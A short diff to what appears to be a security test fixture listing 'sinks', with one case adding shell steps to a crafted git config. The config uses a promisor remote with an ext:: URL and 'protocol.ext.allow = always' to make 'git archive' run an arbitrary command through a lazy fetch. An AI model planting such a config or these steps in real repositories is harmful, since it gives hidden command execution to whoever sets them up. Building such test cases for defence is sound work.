@@ -100,6 +100,7 @@ SINKS = {
         "a promisor remote and a missing object",
         "[core]\n\trepositoryformatversion = 1\n[extensions]\n\tpartialClone = evil\n"
         '[remote "evil"]\n\turl = ext::{p}\n\tpromisor = true\n[protocol "ext"]\n\tallow = always\n',
+        "for p in .git/objects/pack/*.pack; do mv $p p; rm -f .git/objects/pack/*; git unpack-objects -q < p; done;"
         "o=$(git rev-parse HEAD:d/x); rm -f .git/objects/$(echo $o | cut -c1-2)/$(echo $o | cut -c3-);"
         "git archive HEAD",
     ),
